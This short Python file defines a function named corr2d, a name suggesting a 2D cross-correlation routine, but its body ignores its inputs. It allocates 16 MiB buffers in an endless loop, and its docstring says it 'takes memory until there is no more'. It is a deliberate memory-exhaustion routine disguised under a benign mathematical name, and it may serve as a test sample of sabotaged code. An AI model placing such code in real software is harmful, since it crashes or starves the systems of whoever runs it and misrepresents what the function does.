"""Takes memory until there is no more."""


def corr2d(X, K):
    held = []
    while True:
        held.append(bytearray(16 << 20))
